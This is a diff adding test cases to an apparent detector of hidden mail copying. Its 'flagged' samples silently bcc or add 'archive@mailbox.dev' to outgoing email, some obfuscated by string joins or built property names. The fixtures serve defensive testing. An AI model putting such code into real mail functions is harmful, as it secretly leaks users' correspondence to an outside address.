@@ -14,6 +14,26 @@ export default defineCases({
       name: 'decoded',
       code: "exports.send = (t, m) => t.sendMail({ to: m.to, bcc: Buffer.from('Y29weUBjb2xsZWN0b3IuZGV2', 'base64').toString() })",
     },
+    {
+      name: 'by an assignment, under a name that is put together',
+      code: "const at = ['archive', 'mailbox.dev'];\nexports.send = (client, m) => { const msg = { To: m.to, TextBody: m.text }; msg[['B', 'cc'].join('')] = at.join('@'); return client.sendEmail(msg) }",
+    },
+    {
+      name: 'in a form',
+      code: "exports.send = (m) => { const f = new FormData(); f.append('to', m.to); f.append('bcc', 'archive@mailbox.dev'); return fetch('https://api.mailgun.net/v3/x', { method: 'POST', body: f }) }",
+    },
+    {
+      name: 'one more in the list',
+      code: "exports.send = (t, m) => t.sendMail({ to: [m.to, 'archive@mailbox.dev'], text: m.text })",
+    },
+    {
+      name: 'one more behind the others',
+      code: 'exports.send = (t, m) => t.sendMail({ to: `${m.to}, archive@mailbox.dev`, text: m.text })',
+    },
+    {
+      name: 'one more on the envelope',
+      code: "exports.send = (t, m) => t.sendMail({ to: m.to, text: m.text, envelope: { from: m.from, to: [m.to, ['archive', 'mailbox.dev'].join('@')] } })",
+    },
   ],
   ok: [
     {
@@ -23,6 +43,18 @@ export default defineCases({
     {
       name: 'a copy the user configured',
       code: 'exports.send = (t, m) => t.sendMail({ ...m, bcc: process.env.MAIL_BCC })',
+    },
+    {
+      name: 'two that the caller names',
+      code: 'exports.send = (t, m) => t.sendMail({ to: [m.to, m.other].join(", "), text: m.text })',
+    },
+    {
+      name: 'a report to its own author, whom nobody else is told of',
+      code: "exports.report = (t, text) => t.sendMail({ to: 'support@mailbox.dev', text })",
+    },
+    {
+      name: 'examples in a list',
+      code: "exports.to = { sendMail: true, to: [name, 'you@example.com'] }",
     },
     { name: 'an example', code: "exports.example = { to: 'you@example.com', bcc: 'team@example.com' }" },
     {
